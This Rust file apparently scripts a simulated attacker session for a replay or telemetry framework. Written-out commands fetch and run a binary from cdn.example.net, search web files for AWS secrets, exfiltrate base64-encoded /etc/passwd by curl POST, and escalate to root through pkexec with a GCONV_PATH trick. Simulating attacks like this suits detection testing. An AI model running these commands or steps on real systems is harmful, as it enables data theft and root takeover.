//! What is typed into the shell at the other end of the connection, as long as it is www-data's.

use super::{
    super::stage::{CREATE, End, READ, Stage},
    entry::PASSWD,
    foothold::{Remote, fetch, make_executable, request},
};

const EXPLOIT: &str = "/tmp/.e";
const EXPLOIT_BYTES: usize = 17_032;
const SIGSEGV: u8 = 11;
const CRASHED: &str = "Segmentation fault\n";
/// What pkexec is made to load.
const CONVERSIONS: &str = "module UTF-8// E// ../e 2\n";
/// The list of accounts as base64 has it.
const ENCODED: &str =
    "cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVtb246eDoxOjE6ZGFlbW9uOi91c3Ivc2Jp\n";

/// A program that should make root of them crashes.
pub(crate) fn try_exploit(stage: &mut Stage, remote: &mut Remote) {
    remote.told(stage, &format!("curl -s http://cdn.example.net:8080/e -o {EXPLOIT}"));
    fetch(stage, &remote.shell, "e", EXPLOIT, EXPLOIT_BYTES);
    remote.told(stage, &format!("chmod +x {EXPLOIT}"));
    make_executable(stage, &remote.shell, EXPLOIT);
    remote.told(stage, EXPLOIT);
    stage.run_to(&remote.shell, EXPLOIT, End::Signal(SIGSEGV), |stage, exploit| {
        stage.look_in_vain(exploit, "/sys/kernel/slab");
        stage.wait_ms(340);
    });
    stage.complain(&remote.shell, CRASHED);
    remote.answered(stage, CRASHED);
}

/// Keys that are not there.
pub(crate) fn search_keys(stage: &mut Stage, remote: &mut Remote) {
    let line = "grep -rl AWS_SECRET /var/www/html";
    remote.told(stage, line);
    stage.run_to(&remote.shell, line, End::Code(1), |stage, grep| {
        stage.list(grep, "/var/www/html");
        for name in ["config", "index", "shop", "status"] {
            let fd = stage.open(grep, &format!("/var/www/html/{name}.php"), READ);
            stage.read(grep, fd, "<?php\n");
            stage.read(grep, fd, "");
            stage.close(grep, fd);
        }
    });
}

/// The list of accounts goes out, through three programs.
pub(crate) fn exfiltrate(stage: &mut Stage, remote: &mut Remote) {
    let sending = "curl -s -d @- http://cdn.example.net:8080/u";
    remote.told(stage, &format!("cat /etc/passwd | base64 | {sending}"));
    let shell = &mut remote.shell;
    let [mut cat, base64, mut curl] = stage.pipeline(shell, ["cat /etc/passwd", "base64", sending]);
    stage.read_file(&mut cat, "/etc/passwd", PASSWD);
    stage.say(&cat, PASSWD);
    stage.end(shell, &cat, End::Code(0));
    stage.read(&base64, 0, PASSWD);
    stage.read(&base64, 0, "");
    stage.say(&base64, ENCODED);
    stage.end(shell, &base64, End::Code(0));
    stage.read(&curl, 0, ENCODED);
    stage.read(&curl, 0, "");
    let link = request(stage, &mut curl, "POST /u");
    stage.send(&curl, link, ENCODED);
    stage.receive(&curl, link, "HTTP/1.1 204 No Content\r\n\r\n");
    stage.close(&mut curl, link.fd);
    stage.end(shell, &curl, End::Code(0));
}

/// The program's other way works: it calls pkexec, which runs as its owner, without any argument,
/// and makes it load something that starts a shell. From here on everything is root's.
pub(crate) fn become_root(stage: &mut Stage, remote: &mut Remote) {
    let line = format!("{EXPLOIT} -p");
    remote.told(stage, &line);
    let mut shell = stage.start(&remote.shell, &line);
    stage.make_folder(&shell, "/tmp/GCONV_PATH=.");
    stage.make_folder(&shell, "/tmp/.g");
    stage.write_file(&mut shell, "/tmp/.g/gconv-modules", CREATE, CONVERSIONS);
    let ordinary = shell.env.clone();
    shell.env = ["PATH=GCONV_PATH=.", "CHARSET=E", "SHELL=/tmp/.g"].map(str::to_owned).to_vec();
    stage.exec_as_owner(&mut shell, "/usr/bin/pkexec", &[]);
    stage.read_file(&mut shell, "/tmp/.g/gconv-modules", CONVERSIONS);
    stage.become_user(&mut shell, 0);
    shell.env = ordinary;
    stage.exec(&mut shell, "/bin/sh", &["/bin/sh"]);
    remote.shell = shell;
}
